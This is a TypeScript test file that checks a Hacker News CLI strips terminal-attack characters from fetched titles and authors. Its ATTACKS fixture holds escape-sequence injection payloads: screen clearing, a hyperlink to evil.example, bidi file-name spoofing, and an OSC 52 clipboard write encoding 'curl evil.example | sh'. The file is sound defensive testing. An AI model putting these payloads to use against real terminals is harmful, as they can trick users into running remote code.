// `start` against real parts: the time-skipping test server, a worker running the real workflow and
// activities, the fake Hacker News API serving titles and authors made to attack a terminal.
import { type CliContext } from '@hn/runtime/cli';
import { execFile } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { createActivities, createHackerNewsClient } from '@hn/activities';
import { TASK_QUEUE, type HackerNewsReport } from '@hn/contract';
import {
  defineDataset,
  startFakeHackerNewsApi,
  type FakeHackerNewsApi,
  type HnStory,
} from '@hn/fake-hn-api';
import { bundleWorkflowsOnce, createTimeSkippingEnv } from '@hn/testing';
import { workflowsPath } from '@hn/workflows/worker';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { Worker } from '@temporalio/worker';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';

import { runCli } from '../src/cli/program';
import { COMMANDS } from '../src/commands';
import { StatusLine, type TerminalStream } from '@hn/runtime';
import { displayWidth } from '@hn/runtime';
import { forbiddenCharacters } from '@hn/testing/forbidden-characters';

const root = fileURLToPath(new URL('../../..', import.meta.url));

/** Titles and authors that would drive a terminal if printed raw. */
const ATTACKS = [
  '\x1b[2J\x1b[HScreen cleared',
  '\x1b[41;97mALERT\x1b[0m colours',
  '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\ hyperlink',
  '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 clipboard',
  '\x1bP+q544e\x1b\\ device control',
  'harmless\rEVIL carriage return',
  'nul\x00byte',
  'c1\u0085 and 8-bit \u009b2J csi',
  '\u202Egnp.exe\u202C bidi \u2066isolate\u2069',
  'cut \x1b]8;;https://evil.example/ unterminated',
];
const FILLER = ' and then a long, ordinary title that fills the column';
const stories: HnStory[] = ATTACKS.map((attack, i) => ({
  id: i + 1,
  type: 'story',
  title: `${attack}${FILLER}`,
  by: `u${i}\x1b[5m\u202E`,
  url: `https://example.com/${i + 1}`,
  score: 10,
  descendants: 0,
  time: 1_700_000_000 + i,
}));

let env: TestWorkflowEnvironment;
let api: FakeHackerNewsApi;
let hnClient: ReturnType<typeof createHackerNewsClient>;
let worker: Worker;
let workerRun: Promise<void>;

beforeAll(async () => {
  [env, api] = await Promise.all([
    createTimeSkippingEnv(),
    startFakeHackerNewsApi({
      dataset: defineDataset({ items: stories, lists: { top: stories.map((s) => s.id) } }),
    }),
  ]);
  hnClient = createHackerNewsClient({ baseUrl: api.baseUrl, timeoutMs: 2000 });
  worker = await Worker.create({
    connection: env.nativeConnection,
    taskQueue: TASK_QUEUE,
    workflowBundle: await bundleWorkflowsOnce(workflowsPath()),
    activities: createActivities({ client: hnClient }),
  });
  workerRun = worker.run();
});

afterEach(() => api.resetFaults());

afterAll(async () => {
  if (worker) {
    worker.shutdown();
    await workerRun;
  }
  await hnClient?.close();
  await api?.close();
  await env?.teardown();
});

function capture(options: { isTTY?: boolean; columns?: number }) {
  const chunks: string[] = [];
  const stream: TerminalStream = { ...options, write: (text) => chunks.push(text) };
  return { stream, chunks, text: () => chunks.join('') };
}

/** Runs `start` in this process on the test server: stdout 100 columns, stderr a 40-column terminal. */
async function start(...args: string[]) {
  const stdout = capture({ columns: 100 });
  const stderr = capture({ isTTY: true, columns: 40 });
  const ctx: CliContext = {
    stdout: stdout.stream,
    stderr: stderr.stream,
    status: new StatusLine(stderr.stream),
    connect: () => Promise.resolve({ client: env.client, close: () => Promise.resolve() }),
  };
  const code = await runCli(['start', ...args], ctx, COMMANDS);
  return { code, stdout: stdout.text(), stderr: stderr.text(), stderrChunks: stderr.chunks };
}

describe('start', () => {
  it('prints titles and authors from the API without a single escape or control character', async () => {
    const { code, stdout, stderr } = await start('--id', 'attack-table', '--limit', '10');
    expect(code, stderr).toBe(0);
    expect(stdout).not.toContain('\x1b');
    expect(forbiddenCharacters(stdout)).toEqual([]);

    const lines = stdout.split('\n');
    const [header, rule, ...rest] = lines;
    expect(header).toMatch(/^ # {2}title/);
    expect(displayWidth(rule!)).toBe(100);
    const rows = rest.slice(0, 10);
    expect(rows.map((row) => /^\s*(\d+)\s{2}/.exec(row)?.[1])).toEqual(
      ATTACKS.map((_, i) => String(i + 1)),
    );
    // Columns line up: every url starts at the same column, and no row is wider than stdout.
    const urlColumn = (row: string) => displayWidth(row.slice(0, row.indexOf('https://')));
    for (const row of rows) {
      expect(urlColumn(row)).toBe(urlColumn(rows[0]!));
      expect(displayWidth(row)).toBeLessThanOrEqual(100);
    }
    expect(displayWidth(rows[9]!)).toBe(100);
    expect(rest[10]).toBe('[10 rows x 3 columns]');
    expect(stdout).toContain('ALERT colours');
    expect(stdout).toContain('click me hyperlink');
    expect(stdout).toContain('harmless\uFFFDEVIL carriage return');
    expect(stdout).toContain('nul\uFFFDbyte');
    expect(stdout).toContain('\uFFFDgnp.exe\uFFFD bidi \uFFFDisolate\uFFFD');
    expect(rows[9]).toMatch(/^10 {2}cut\s+u9\uFFFD\s+https:\/\/example\.com\/10$/);
  });

  it('draws progress on stderr at stderr width, and clears it before the result', async () => {
    const { code, stderrChunks } = await start('--id', 'attack-progress', '--limit', '10');
    expect(code).toBe(0);
    const draws = stderrChunks.filter((chunk) => chunk !== '\r\x1b[2K');
    expect(draws.length).toBeGreaterThan(0);
    for (const draw of draws) {
      expect(draw.startsWith('\r\x1b[2K')).toBe(true);
      const line = draw.slice('\r\x1b[2K'.length);
      expect(line).not.toContain('\x1b');
      expect(displayWidth(line)).toBeLessThanOrEqual(39);
    }
    expect(stderrChunks.at(-1)).toBe('\r\x1b[2K');
  });

  it('keeps the exact data in --json', async () => {
    const { code, stdout } = await start('--id', 'attack-json', '--json', '--limit', '10');
    expect(code).toBe(0);
    expect(forbiddenCharacters(stdout)).toEqual([]);
    const report = JSON.parse(stdout) as HackerNewsReport & { workflowId: string };
    expect(report.workflowId).toBe('attack-json');
    // Exact, but for NUL: the pipeline repairs it to U+FFFD (flag `text-repaired`), since
    // PostgreSQL cannot store it.
    expect(report.stories.map((s) => [s.title, s.by])).toEqual(
      stories.map((s) => [s.title.replaceAll('\0', '\uFFFD'), s.by]),
    );
  });

  it('prints the cause chain of a failed run, down to the ApplicationFailure, and exits 1', async () => {
    api.setFaults({ notFoundLists: ['top'] });
    const { code, stderrChunks } = await start('--id', 'no-list');
    expect(code).toBe(1);
    // What stays on the terminal: everything but the progress line's redraws.
    const text = stderrChunks.filter((chunk) => !chunk.startsWith('\r\x1b[2K')).join('');
    expect(text).toMatch(/^error: The run no-list \(run id [\w-]+\) failed\.\n/m);
    expect(text).toMatch(
      /^ {2}caused by ActivityFailure: Activity task failed \(activity fetchStoryIds, retry state NON_RETRYABLE_FAILURE\)$/m,
    );
    expect(text).toMatch(
      /\n {2}caused by ApplicationFailure \[HackerNewsNotFound\]: [^\n]*HTTP 404\n$/,
    );
    // The progress line is gone before the error is printed.
    const error = stderrChunks.findIndex((chunk) => chunk.startsWith('error:'));
    expect(stderrChunks[error - 1]).toBe('\r\x1b[2K');
  });

  it('runs as the README shows: pnpm --filter starter start -- --limit 3 --json', async () => {
    const { code, stdout, stderr } = await new Promise<{
      code: number;
      stdout: string;
      stderr: string;
    }>((resolve) => {
      execFile(
        'pnpm',
        ['--filter', 'starter', 'start', '--', '--limit', '3', '--json', '--id', 'via-pnpm'],
        {
          cwd: root,
          env: { ...process.env, TEMPORAL_ADDRESS: env.address, TEMPORAL_NAMESPACE: 'default' },
          timeout: 60_000,
        },
        (error, out, err) => {
          resolve({ code: error ? Number(error.code ?? 1) : 0, stdout: out, stderr: err });
        },
      );
    });
    expect(code, stderr).toBe(0);
    const json = stdout.slice(stdout.indexOf('{'));
    expect((JSON.parse(json) as HackerNewsReport).stories).toHaveLength(3);
  });
});
